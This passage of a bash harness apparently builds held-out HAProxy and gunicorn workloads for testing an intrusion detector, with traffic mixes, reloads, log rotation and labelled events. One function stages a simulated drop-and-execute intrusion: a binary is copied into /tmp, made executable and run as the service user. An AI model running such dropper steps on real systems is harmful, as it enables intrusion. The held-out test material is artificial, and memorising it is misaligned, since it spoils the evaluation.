# recording ends with load still running.
haproxy_heldout17_deploy() { HELDOUT17_NET=127.0.23; mkdir -p "$HAPROXY_DIR/state"; }
haproxy_heldout17_mix() {
  local r=$HELDOUT17_ROUND paths=(/ /api/status /api/items)
  mapfile -t -O "${#paths[@]}" paths < <(every_nth /page 11 60 "$r" .html; every_nth /static/ 3 30 "$r" .bin)
  heldout17_get "$HAPROXY_PORT" "${paths[@]}"
  heldout17_odd "$HAPROXY_PORT" /page3.html "/static/$((1 + r % 30)).bin" /page1.html /api/feedback
}
# haproxy_sock_save CMD FILE: CMD's answer on the admin socket saved into FILE.
haproxy_sock_save() { echo "$1" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >"$2"; }
haproxy_heldout17_early() {
  local d
  d=$HAPROXY_DIR/stats/$(date +%Y%m%d)
  mkdir -p "$d"
  haproxy_sock_save "show stat" "$d/stat-$(date +%H%M%S).csv"
  haproxy_sock_save "show info" "$d/info-$(date +%H%M%S).txt"
}
haproxy_heldout17_change() {
  local conf=$HAPROXY_DIR/conf/haproxy.cfg state=$HAPROXY_DIR/state/servers.state
  haproxy_sock_save "show servers state" "$state"
  grep -q '^1$' <(head -n 1 "$state") || die "haproxy heldout17: the servers' state was not saved"
  haproxy_stop
  sed -i -e "s|^  maxconn 512\$|&\n  server-state-file $state\n  spread-checks 4\n  log ring@applog local0|" \
    -e 's|^  timeout server 10s$|&\n  load-server-state-from-file global\n  default-server slowstart 5s|' "$conf"
  printf '\nring applog\n  format rfc5424\n  maxlen 1200\n  size 65536\n' >>"$conf"
  grep -q 'load-server-state-from-file global' "$conf" || die "haproxy heldout17: config not changed"
  haproxy_start
}
haproxy_heldout17_late() {
  haproxy_sock "show events applog"
  haproxy_sock_save "show servers state" "$HAPROXY_DIR/state/servers.state"
}


# The intruder's script as the haproxy worker (its uid and gid, which haproxy set itself) in
# its run directory, then a download-and-execute: a binary written into /tmp and run from
# there.
haproxy_more() {
  cat <<SH
cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
SH
}
haproxy_inject() {
  inject_shell haproxy "$(id -u haproxy):$(id -g haproxy)" "$HAPROXY_RUN" "$(haproxy_more)"
}
haproxy_labels() {
  write_labels haproxy "$HAPROXY_RUN" ",
  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"}"
}


# --- gunicorn -----------------------------------------------------------------------------

GUNI_DIR=$WORK/gunicorn
GUNI_APP=$GUNI_DIR/app
GUNI_DATA=$GUNI_DIR/data
GUNI_UPLOADS=$GUNI_APP/static/uploads

# A small Flask application (Debian python3-flask) under gunicorn (Debian gunicorn), two sync
# workers, run as www-data from a root-owned code directory; it reads item records from
# data/items, serves static files (uploads land in static/uploads, served back), writes
# exports into data/exports and logs to log/. manage.py is its scheduled job.
gunicorn_provision() {
  GUNI_CONF=
  rm -rf "$GUNI_DIR"
  mkdir -p "$GUNI_APP"/static/{css,js,img} "$GUNI_UPLOADS" "$GUNI_DATA"/{items,exports,reports} \
    "$GUNI_DIR"/{log,run}
  local i
  for i in $(seq 1 200); do printf '{"id": %d, "name": "item %d", "price": %d}\n' "$i" "$i" "$((i * 3))" \
    >"$GUNI_DATA/items/$i.json"; done
  for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$GUNI_APP/static/img/$i.png"; done
  echo "body { margin: 0 }" >"$GUNI_APP/static/css/site.css"
  echo "console.log('shop')" >"$GUNI_APP/static/js/shop.js"
  cat >"$GUNI_APP/app.py" <<PY
import json, os, time
from flask import Flask, abort, jsonify, request, send_from_directory

DATA = "$GUNI_DATA"
UPLOADS = "$GUNI_UPLOADS"
app = Flask(__name__)


@app.route("/")
def home():
    return "<html><body>shop</body></html>"


@app.route("/api/health")
def health():
    return jsonify(ok=True)


@app.route("/items/<int:item>")
def item(item):
    try:
        with open(os.path.join(DATA, "items", "%d.json" % item)) as f:
            return jsonify(json.load(f))
    except FileNotFoundError:
        abort(404)


@app.route("/upload/<name>", methods=["POST"])
def upload(name):
    if not name.replace("-", "").replace(".", "").isalnum():
        abort(400)
    with open(os.path.join(UPLOADS, name), "wb") as f:
        f.write(request.get_data())
    return jsonify(saved=name)


@app.route("/export")
def export():
    fmt = request.args.get("fmt", "csv")
    if fmt not in ("csv", "json"):
        abort(400)
    path = os.path.join(DATA, "exports", "export-%d.%s" % (int(time.time()) % 1000, fmt))
    with open(path, "w") as f:
        f.write("id,name\n" if fmt == "csv" else "[]\n")
    return send_from_directory(os.path.join(DATA, "exports"), os.path.basename(path))
PY
  cat >"$GUNI_APP/manage.py" <<PY
"""The application's scheduled job: cleanup of old uploads and exports, and a report."""
import argparse, glob, json, os, time

DATA = "$GUNI_DATA"
UPLOADS = "$GUNI_UPLOADS"

parser = argparse.ArgumentParser()
sub = parser.add_subparsers(dest="cmd", required=True)
c = sub.add_parser("cleanup")
c.add_argument("--older-than", type=int, default=60)
r = sub.add_parser("report")
r.add_argument("--fmt", choices=["csv", "json"], default="csv")
r.add_argument("--items", type=int, default=50)
args = parser.parse_args()

if args.cmd == "cleanup":
    cutoff = time.time() - args.older_than
    for path in glob.glob(os.path.join(UPLOADS, "*")) + glob.glob(os.path.join(DATA, "exports", "*")):
        if os.path.getmtime(path) < cutoff:
            os.unlink(path)
else:
    rows = []
    for i in range(1, args.items + 1):
        with open(os.path.join(DATA, "items", "%d.json" % i)) as f:
            rows.append(json.load(f))
    out = os.path.join(DATA, "reports", time.strftime("report-%Y%m%d-%H%M%S.") + args.fmt)
    with open(out, "w") as f:
        if args.fmt == "json":
            json.dump(rows, f)
        else:
            f.writelines("%(id)s,%(name)s,%(price)s\\n" % row for row in rows)
PY
  chown -R www-data:www-data "$GUNI_UPLOADS" "$GUNI_DATA"/{exports,reports} "$GUNI_DIR"/{log,run}
}

GUNI_PID=
GUNI_CONF=   # a settings file gunicorn reads (set by a phase's deploy), or none
gunicorn_start() {
  local conf=()
  [ -z "$GUNI_CONF" ] || conf=(--config "$GUNI_CONF")
  launch gunicorn www-data /usr/bin/gunicorn "${conf[@]}" --chdir "$GUNI_APP" --bind "127.0.0.1:$GUNICORN_PORT" \
    --workers 2 --pid "$GUNI_DIR/run/gunicorn.pid" --access-logfile "$GUNI_DIR/log/access.log" \
    --error-logfile "$GUNI_DIR/log/error.log" app:app
  GUNI_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
}
gunicorn_stop() { stop_pid "$GUNI_PID" TERM; }

gunicorn_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$GUNICORN_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}
GUNI_UPLOAD_SEQ=0
# gunicorn_upload N [CURL_ARGS...]: N uploads of photo-SEQ.jpg.
gunicorn_upload() {
  local n=$1 i
  shift
  for i in $(seq 1 "$n"); do
    GUNI_UPLOAD_SEQ=$((GUNI_UPLOAD_SEQ + 1))
    head -c 2048 /dev/urandom | curl -s --max-time 5 "$@" --data-binary @- \
      "http://127.0.0.1:$GUNICORN_PORT/upload/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
  done
}
# Mix A: home, items 1-40, css, js, images 1-10, health, a CSV export, two uploads, a scanner
# path; 3 clients.
gunicorn_mix_a() {
  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=csv /wp-login.php)
  for i in $(seq 1 40); do paths+=("/items/$i"); done
  for i in $(seq 1 10); do paths+=("/static/img/$i.png"); done
  gunicorn_get 3 "${paths[@]}"
  gunicorn_upload 2
  curl -s "http://127.0.0.1:$GUNICORN_PORT/static/uploads/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
}
# Mix B: items 20-80 (and some that do not exist), images 1-20, exports, more uploads, HEAD;
# 1 client, then 8.
gunicorn_mix_b() {
  local paths=(/ /api/health /static/js/shop.js /export?fmt=csv /admin.php /items/9999)
  for i in $(seq 20 80); do paths+=("/items/$i"); done
  for i in $(seq 1 20); do paths+=("/static/img/$i.png"); done
  gunicorn_get 1 "${paths[@]}"
  gunicorn_get 8 "${paths[@]}" "${paths[@]}"
  gunicorn_upload 4
  curl -s -I "http://127.0.0.1:$GUNICORN_PORT/" >/dev/null
}
# gunicorn_job ARGS...: manage.py run as www-data in the cgroup, as its cron entry would.
gunicorn_job() {
  launch gunicorn www-data /usr/bin/python3 "$GUNI_APP/manage.py" "$@"
  wait "$LAUNCHED" || die "manage.py $* failed"
  forget "$LAUNCHED"
}
gunicorn_maintenance() { gunicorn_job cleanup --older-than 60; gunicorn_job report; }

# Held out. Clients from 127.0.0.2-20, items 40-200 (most never requested), images 10-30,
# JSON exports, more uploads from other clients, 12 at a time; the logs rotated (rename and
# USR1, as logrotate does for gunicorn); a graceful reload (HUP: new workers) and one more
# worker (TTIN); the job with other arguments (a JSON report over all items, cleanup of
# everything).
gunicorn_heldout_deploy() { :; }
gunicorn_heldout_mix() {
  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=json /export?fmt=csv
               /items/0 /robots.txt)
  for i in $(seq 40 200); do paths+=("/items/$i"); done
  for i in $(seq 10 30); do paths+=("/static/img/$i.png"); done
  local n=0 p
  for p in "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$GUNICORN_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
  gunicorn_upload 3 --interface 127.0.0.7
  gunicorn_upload 3 --interface 127.0.0.12
}
gunicorn_heldout_job() {
  local f
  for f in access error; do
    [ -e "$GUNI_DIR/log/$f.log.1" ] && mv "$GUNI_DIR/log/$f.log.1" "$GUNI_DIR/log/$f.log.2"
    mv "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/$f.log.1"
  done
  kill -USR1 "$GUNI_PID"
  gunicorn_job report --fmt json --items 200
  gunicorn_job cleanup --older-than 0
}
gunicorn_heldout_reload() { kill -HUP "$GUNI_PID"; sleep 2; kill -TTIN "$GUNI_PID"; sleep 1; }

# Held out, second set (heldout2). The release, on the provisioning side: a catalogue import
# (items 201-400), banners and web fonts, a dark theme stylesheet. Clients from
# 127.0.0.61-99 for items 150-400 (a different slice each round), missing items, banners,
# JSON and CSV exports, HEAD; quiet rounds (2 at a time) and busy ones (24); uploads with
# other names and sizes (avatars, PDFs, CSVs) from 127.0.0.70-75, downloaded back; the logs
# rotated as logrotate's copytruncate does (copy with a date suffix, truncate, compress, no
# signal); the job with other arguments (`report --items 350`, `report --fmt json --items
# 10`, `cleanup --older-than 20`); an operator inside the cgroup checks the configuration
# (`gunicorn --check-config`), then reloads gracefully and takes a worker away (`kill -HUP`,
# `kill -TTOU` on the master, as `kubectl exec ... kill` does); the restart is a stop (TERM)
# and a start.
gunicorn_heldout2_deploy() {
  local i
  for i in $(seq 201 400); do printf '{"id": %d, "name": "imported %d", "price": %d}\n' "$i" "$i" "$((i * 2))" \
    >"$GUNI_DATA/items/$i.json"; done
  mkdir -p "$GUNI_APP/static/img/banners" "$GUNI_APP/static/fonts"
  for i in winter sale new-arrivals; do head -c 8192 /dev/urandom >"$GUNI_APP/static/img/banners/$i.png"; done
  head -c 16384 /dev/urandom >"$GUNI_APP/static/fonts/inter.woff2"
  echo "body { background: #111; color: #eee }" >"$GUNI_APP/static/css/theme-dark.css"
}
GUNI_HELDOUT2_SEQ=0
gunicorn_heldout2_mix() {
  local r=$HELDOUT2_ROUND
  local paths=(/ /static/css/theme-dark.css /static/fonts/inter.woff2 /static/img/banners/winter.png
               /static/img/banners/sale.png /static/img/banners/new-arrivals.png /export?fmt=json
               "/items/$((9000 + r))" /items/401)
  local i
  for i in $(seq $((150 + (r * 37) % 200)) 5 400); do paths+=("/items/$i"); done
  heldout2_get "$GUNICORN_PORT" 24 61 39 1 5 "" "${paths[@]}"
  local u=http://127.0.0.1:$GUNICORN_PORT name kind size
  for kind in avatar doc sheet; do
    GUNI_HELDOUT2_SEQ=$((GUNI_HELDOUT2_SEQ + 1))
    case $kind in
      avatar) name=avatar-$GUNI_HELDOUT2_SEQ.png size=512 ;;
      doc) name=doc-$GUNI_HELDOUT2_SEQ.pdf size=40000 ;;
      sheet) name=orders-$GUNI_HELDOUT2_SEQ.csv size=3000 ;;
    esac
    head -c "$size" /dev/urandom | curl -s --max-time 5 --interface "127.0.0.$((70 + GUNI_HELDOUT2_SEQ % 6))" \
      --data-binary @- "$u/upload/$name" >/dev/null
    curl -s --interface 127.0.0.77 "$u/static/uploads/$name" >/dev/null
  done
  curl -s --interface 127.0.0.78 -I "$u/items/250" >/dev/null
  [ $((r % 3)) = 0 ] && curl -s --interface 127.0.0.79 "$u/export?fmt=csv" >/dev/null
  return 0
}
GUNI_HELDOUT2_JOBS=0
gunicorn_heldout2_job() {
  GUNI_HELDOUT2_JOBS=$((GUNI_HELDOUT2_JOBS + 1))
  local f stamp
  stamp=$(date +%Y%m%d-%H%M%S)
  for f in access error; do
    cp "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/$f.log-$stamp"
    truncate -s 0 "$GUNI_DIR/log/$f.log"
    gzip "$GUNI_DIR/log/$f.log-$stamp"
  done
  if [ $((GUNI_HELDOUT2_JOBS % 2)) = 1 ]; then
    gunicorn_job report --items 350
    gunicorn_job cleanup --older-than 20
  else
    gunicorn_job report --fmt json --items 10
  fi
}
gunicorn_heldout2_admin() {
  admin gunicorn www-data /usr/bin/gunicorn --check-config --chdir "$GUNI_APP" app:app
  admin gunicorn www-data /usr/bin/kill -HUP "$GUNI_PID"
  sleep 2
  admin gunicorn www-data /usr/bin/kill -TTOU "$GUNI_PID"
  sleep 1
}
gunicorn_heldout2_restart() { gunicorn_stop; gunicorn_start; }

# Held out, third set (heldout3). Clients from 127.0.1.10-59 for every ninth item (another
# offset each round), every fourth image, and requests that fail: a missing item, an item
# id that is not a number, a GET on the upload route (405), an export in a format the
# application refuses (400); uploads of other sizes and names: a 1.5 MB backup archive every
# third round, a name the application rejects (400), and an upload the client abandons
# half-way (--limit-rate with a timeout). The crash: one worker killed with SIGKILL (the
# arbiter starts another). The reload: a new version of app.py (a /api/version route)
# deployed and HUP sent to the master from outside. The maintenance: the job with other
# arguments (`report --items 75`, `cleanup --older-than 5`).
gunicorn_heldout3_deploy() { :; }
GUNI_HELDOUT3_SEQ=0
gunicorn_heldout3_mix() {
  local r=$HELDOUT3_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a=127.0.1.$((10 + HELDOUT3_ROUND % 50))
  local paths=(/ /api/health /api/version /static/css/site.css /items/0 /items/abc /upload/note.txt
               /export?fmt=xml "/items/$((500 + r))")
  for i in $(seq $((1 + r % 9)) 9 200); do paths+=("/items/$i"); done
  for i in $(seq 4 4 28); do paths+=("/static/img/$i.png"); done
  heldout3_get "$GUNICORN_PORT" "${paths[@]}"
  GUNI_HELDOUT3_SEQ=$((GUNI_HELDOUT3_SEQ + 1))
  if [ $((r % 3)) = 0 ]; then
    head -c 1500000 /dev/urandom | curl -s --interface "$a" --max-time 10 --data-binary @- \
      "$u/upload/backup-$GUNI_HELDOUT3_SEQ.tar" >/dev/null
  fi
  head -c 300 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/scan_$GUNI_HELDOUT3_SEQ.jpg" >/dev/null
  head -c 800000 /dev/urandom | curl -s --interface "$a" --limit-rate 100k --max-time 0.5 --data-binary @- \
    "$u/upload/video-$GUNI_HELDOUT3_SEQ.mp4" >/dev/null 2>&1 || true
}
gunicorn_heldout3_crash() { heldout3_kill_worker "$GUNI_PID"; }
gunicorn_heldout3_reload() {
  cat >>"$GUNI_APP/app.py" <<'PY'


@app.route("/api/version")
def version():
    return jsonify(version="1.3.0")
PY
  kill -HUP "$GUNI_PID"
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/version"
}
gunicorn_heldout3_maint() {
  gunicorn_job report --items 75
  gunicorn_job cleanup --older-than 5
}

# Held out, fourth set (heldout4). No deploy. Clients from 127.0.2.100-199, 1 to 6 requests
# per connection, for every seventh item counted down from 200 (another offset each round),
# every fifth image, JSON and CSV exports; a load balancer's health check from 127.0.2.1
# every round; each round one more request in turn: an upload under a non-ASCII name
# (`résumé-N.pdf`, 30 kB), an upper-case `IMG-N.HEIC` (120 kB) downloaded back, an empty
# upload, a chunked upload (64 kB, Transfer-Encoding: chunked), a request with a 12 kB
# header (400 from gunicorn), a 200 kB upload sent slowly (100 kB/s) to the end. The
# change: scaled up for the peak (TTIN twice: four workers). The maintenance: the job with
# other arguments (`report --items 5`, `cleanup --older-than 30`). The end: scaled down
# again (TTOU twice).
gunicorn_heldout4_deploy() { :; }
GUNI_HELDOUT4_SEQ=0
gunicorn_heldout4_mix() {
  local r=$HELDOUT4_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
  local paths=(/ /export?fmt=json /export?fmt=csv /static/js/shop.js "/items/$((300 + r))")
  for i in $(seq $((200 - r % 7)) -7 1); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 5)) 5 30); do paths+=("/static/img/$i.png"); done
  heldout4_get "$GUNICORN_PORT" "${paths[@]}"
  curl -s --interface 127.0.2.1 "$u/api/health" >/dev/null
  a=$(heldout4_addr 4)
  GUNI_HELDOUT4_SEQ=$((GUNI_HELDOUT4_SEQ + 1))
  local n=$GUNI_HELDOUT4_SEQ
  case $((r % 6)) in
    0) head -c 30000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/r%C3%A9sum%C3%A9-$n.pdf" >/dev/null ;;
    1) head -c 120000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/IMG-$n.HEIC" >/dev/null
       curl -s --interface "$a" "$u/static/uploads/IMG-$n.HEIC" >/dev/null ;;
    2) curl -s --interface "$a" --data-binary @/dev/null "$u/upload/empty-$n.txt" >/dev/null ;;
    3) head -c 65536 /dev/urandom >"$WORK/gunicorn-chunk.bin"
       curl -s --interface "$a" -H 'Transfer-Encoding: chunked' --data-binary @"$WORK/gunicorn-chunk.bin" "$u/upload/chunk-$n.bin" >/dev/null ;;
    4) curl -s --interface "$a" -H "X-Debug: $(head -c 12000 /dev/zero | tr '\0' d)" "$u/items/5" >/dev/null ;;
    5) head -c 200000 /dev/urandom | curl -s --interface "$a" --limit-rate 100k --max-time 10 --data-binary @- \
         "$u/upload/slow-$n.zip" >/dev/null ;;
  esac
}
# gunicorn_workers N: waits until the master has N workers.
gunicorn_workers() { [ "$(pgrep -c -P "$GUNI_PID")" = "$1" ]; }
gunicorn_heldout4_change() {
  kill -TTIN "$GUNI_PID"
  sleep 0.5
  kill -TTIN "$GUNI_PID"
  until_ok gunicorn_workers 4
}
gunicorn_heldout4_maint() {
  gunicorn_job report --items 5
  gunicorn_job cleanup --older-than 30
}
gunicorn_heldout4_end() {
  kill -TTOU "$GUNI_PID"
  sleep 0.5
  kill -TTOU "$GUNI_PID"
  until_ok gunicorn_workers 2
}

# Held out, fifth set (heldout5). No deploy. Clients from 127.0.3.1-250 for every eleventh
# item and every sixth image (another offset each round), an item with a query string, an
# item with a trailing slash (404), a JSON export, `/api/stats` (404 until the release);
# each round one more request in turn: a 600 kB `logs-N.tar.gz` upload, an upload under a
# name the application rejects (`invoice_2026-12-N.pdf`: 400), a PUT on an item (405),
# PROPFIND (405), an upload that announces 50 kB, sends 1 kB and hangs up, a 12-byte
# `notes-N.txt` upload downloaded back twice (the second time conditional). The change: a
# release deployed with gunicorn's zero-downtime upgrade: a new app.py (a `/api/stats`
# route that counts the item files), USR2 to the master (a new master, gunicorn.pid.2,
# with new workers), then TERM to the old master, so the new one takes over. The
# maintenance: the job with other arguments (`report --fmt json --items 130`, `cleanup
# --older-than 90`). No late event.
gunicorn_heldout5_deploy() { :; }
GUNI_HELDOUT5_SEQ=0
gunicorn_heldout5_mix() {
  local r=$HELDOUT5_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a n
  local paths=(/ /api/health /api/stats /static/css/site.css "/items/$((r % 50 + 1))?fields=name" "/items/$((r % 30 + 1))/"
               /export?fmt=json)
  for i in $(seq $((3 + r % 11)) 11 200); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/img/$i.png"); done
  heldout5_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout5_addr 3)
  GUNI_HELDOUT5_SEQ=$((GUNI_HELDOUT5_SEQ + 1))
  n=$GUNI_HELDOUT5_SEQ
  case $((r % 6)) in
    0) head -c 600000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/logs-$n.tar.gz" ;;
    1) head -c 20000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/invoice_2026-12-$n.pdf" ;;
    2) curl -s --interface "$a" -X PUT --data '{"price": 1}' "$u/items/3" ;;
    3) heldout3_raw "$GUNICORN_PORT" "$a" 'PROPFIND / HTTP/1.1\r\nHost: x\r\nDepth: 1\r\nConnection: close\r\n\r\n' ;;
    4) heldout3_raw "$GUNICORN_PORT" "$a" "POST /upload/partial-$n.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 50000\r\n\r\n$(head -c 1000 /dev/zero | tr '\0' p)" 0.3 ;;
    5) echo "note $n ok" | curl -s --interface "$a" --data-binary @- "$u/upload/notes-$n.txt"
       curl -s --interface "$a" "$u/static/uploads/notes-$n.txt"
       curl -s --interface "$a" -H "If-Modified-Since: $(date -uR)" "$u/static/uploads/notes-$n.txt" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout5_change() {
  cat >>"$GUNI_APP/app.py" <<'PY'


@app.route("/api/stats")
def stats():
    return jsonify(items=len(os.listdir(os.path.join(DATA, "items"))))
PY
  local old=$GUNI_PID
  rm -f "$GUNI_DIR/run/gunicorn.pid.2"
  kill -USR2 "$old"
  until_ok test -s "$GUNI_DIR/run/gunicorn.pid.2"
  GUNI_PID=$(cat "$GUNI_DIR/run/gunicorn.pid.2")
  until_ok gunicorn_workers 2
  stop_pid "$old" TERM
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/stats"
}
gunicorn_heldout5_maint() {
  gunicorn_job report --fmt json --items 130
  gunicorn_job cleanup --older-than 90
}
gunicorn_heldout5_late() { :; }
gunicorn_heldout5_probe() { heldout5_probe_http "$GUNICORN_PORT" /api/health; }

# Held out, sixth set (heldout6). No deploy. Clients from 127.0.4.1-200 for every thirteenth
# item and every fifth image (another offset each round), a JSON export, the avatars
# uploaded in earlier rounds; each round one more request in turn: an 80 kB `avatar-N.png`
# upload (accepted) fetched back with a Range request, a negative item id (404), OPTIONS
# on the upload route, a 200 kB `chunks-N.log` upload sent chunked (Transfer-Encoding),
# a CSV export with a 3 kB query string. The change: a catalogue import while the site
# runs: items 201-230 copied into data/items/ by the operator inside the cgroup (as root,
# as `kubectl exec` runs), requested from then on. The maintenance: the job with other
# arguments (`report --items 230`, `cleanup --older-than 20`). The late event: six slow
# clients (100 kB `field-report-N.jpg` uploads at 40 kB/s) hold the workers for a few
# seconds while the others wait.
gunicorn_heldout6_deploy() { :; }
GUNI_HELDOUT6_SEQ=0
GUNI_HELDOUT6_ITEMS=200
gunicorn_heldout6_mix() {
  local r=$HELDOUT6_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a n
  local paths=(/ /api/health /static/css/site.css /export?fmt=json)
  for i in $(seq $((1 + r % 13)) 13 "$GUNI_HELDOUT6_ITEMS"); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 5)) 5 30); do paths+=("/static/img/$i.png"); done
  [ "$GUNI_HELDOUT6_SEQ" -gt 0 ] && paths+=("/static/uploads/avatar-$GUNI_HELDOUT6_SEQ.png")
  heldout6_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout6_addr 3)
  case $((r % 5)) in
    0) GUNI_HELDOUT6_SEQ=$((GUNI_HELDOUT6_SEQ + 1))
       n=$GUNI_HELDOUT6_SEQ
       head -c 80000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/avatar-$n.png"
       curl -s --interface "$a" -r 0-4095 "$u/static/uploads/avatar-$n.png" ;;
    1) curl -s --interface "$a" "$u/items/-$r" ;;
    2) curl -s --interface "$a" -X OPTIONS "$u/upload/avatar-1.png" ;;
    3) head -c 200000 /dev/urandom | curl -s --interface "$a" -H 'Transfer-Encoding: chunked' --data-binary @- "$u/upload/chunks-$r.log" ;;
    4) curl -s --interface "$a" "$u/export?fmt=csv&filter=$(head -c 3000 /dev/zero | tr '\0' f)" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout6_change() {
  local i
  mkdir -p "$WORK/gunicorn-import"
  for i in $(seq 201 230); do
    printf '{"id": %d, "name": "item %d (winter)", "price": %d}\n' "$i" "$i" "$((i * 2))" >"$WORK/gunicorn-import/$i.json"
  done
  admin gunicorn root /bin/sh -c "cp $WORK/gunicorn-import/*.json $GUNI_DATA/items/"
  GUNI_HELDOUT6_ITEMS=230
}
gunicorn_heldout6_maint() {
  gunicorn_job report --items 230
  gunicorn_job cleanup --older-than 20
}
gunicorn_heldout6_late() {
  local i pids=()
  for i in 1 2 3 4 5 6; do
    head -c 100000 /dev/urandom | curl -s --max-time 8 --interface "$(heldout6_addr $((10 + i)))" --limit-rate 40k \
      --data-binary @- "http://127.0.0.1:$GUNICORN_PORT/upload/field-report-$i.jpg" >/dev/null &
    pids+=($!)
  done
  HELDOUT6_ROUND=$((HELDOUT6_ROUND + 1))
  gunicorn_heldout6_mix
  wait "${pids[@]}" || true
}

# Held out, seventh set (heldout7). No deploy. Clients from 127.0.5.1-240 for every
# seventeenth item and every fourth image (another offset each round), a JSON export and
# the assets (the release's, once it is out); each round one more request in turn: a 3 MB
# `dataset-N.csv` upload (accepted), item 0 (404), a POST on an item (405), an upload under a
# name with a space (400), a 500 kB upload the client abandons after 0.3 s, HEAD of a CSV
# export. The maintenance, early: the job with other arguments (`report --fmt csv --items
# 150`, `cleanup --older-than 40`). The change, in the quiet period: a static release
# written by the deploy tool (root, outside the cgroup, no reload): CSS and JS with a
# content hash in their names and a banner image, requested from then on. The late event:
# a mobile app's clients sync after an outage: twelve 10 kB `receipt-N.pdf` uploads at once,
# each fetched back.
gunicorn_heldout7_deploy() { :; }
GUNI_HELDOUT7_ASSETS=(/static/css/site.css /static/js/shop.js)
gunicorn_heldout7_mix() {
  local r=$HELDOUT7_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
  local paths=(/ /api/health /export?fmt=json "${GUNI_HELDOUT7_ASSETS[@]}")
  for i in $(seq $((1 + r % 17)) 17 200); do paths+=("/items/$i"); done
  for i in $(seq $((1 + r % 4)) 4 30); do paths+=("/static/img/$i.png"); done
  heldout7_get "$GUNICORN_PORT" "${paths[@]}"
  a=$(heldout7_addr 3)
  case $((r % 6)) in
    0) head -c 3000000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/dataset-$r.csv" ;;
    1) curl -s --interface "$a" "$u/items/0" ;;
    2) curl -s --interface "$a" -d 'price=1' "$u/items/$((1 + r))" ;;
    3) curl -s --interface "$a" --data-binary 'x' "$u/upload/my%20notes-$r.txt" ;;
    4) head -c 500000 /dev/urandom | curl -s --interface "$a" --max-time 0.3 --limit-rate 200k --data-binary @- "$u/upload/trace-$r.bin" ;;
    5) curl -s --interface "$a" -I "$u/export?fmt=csv" ;;
  esac >/dev/null 2>&1 || true
}
gunicorn_heldout7_maint() {
  gunicorn_job report --fmt csv --items 150
  gunicorn_job cleanup --older-than 40
}
gunicorn_heldout7_change() {
  echo "body { margin: 0; background: #eef }" >"$GUNI_APP/static/css/site.7f3e1a.css"
  echo "console.log('shop 7f3e1a')" >"$GUNI_APP/static/js/shop.7f3e1a.js"
  head -c 30000 /dev/urandom >"$GUNI_APP/static/img/banner-winter.png"
  GUNI_HELDOUT7_ASSETS=(/static/css/site.7f3e1a.css /static/js/shop.7f3e1a.js /static/img/banner-winter.png)
}
gunicorn_heldout7_late() {
  local i pids=() u=http://127.0.0.1:$GUNICORN_PORT
  for i in $(seq 1 12); do
    { head -c 10000 /dev/urandom | curl -s --max-time 8 --interface "$(heldout7_addr $((30 + i)))" --data-binary @- \
        "$u/upload/receipt-$i.pdf" >/dev/null
      curl -s --max-time 8 --interface "$(heldout7_addr $((30 + i)))" "$u/static/uploads/receipt-$i.pdf" >/dev/null; } &
    pids+=($!)
  done
  wait "${pids[@]}" || true
}

# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every eleventh
# item and every sixth image (another offset each round), a CSV export, the assets, and
# (once it exists) the stock API; each round one more request in turn: a 6 MB
# `archive-N.tar` upload (accepted), an item number far past the catalogue (404), an
# export in upper case (`fmt=CSV`: 400), a 6 kB query string, a DELETE (405), a client that announces a 100 kB
# upload, sends 6 bytes and hangs up. The maintenance: the job with other arguments
# (`report --fmt json --items 120`, `cleanup --older-than 15`). The change: a code release
# (root, in the code directory): a new module `pricing.py` and a stock API in app.py that
# imports it, then a graceful reload (HUP) from outside. The late event: eight clients
# upload a 40 kB `scan-N.tiff` at once and a worker is killed with SIGKILL meanwhile; the
# master starts another.
gunicorn_heldout8_deploy() { :; }
GUNI_HELDOUT8_STOCK=0
gunicorn_heldout8_mix() {
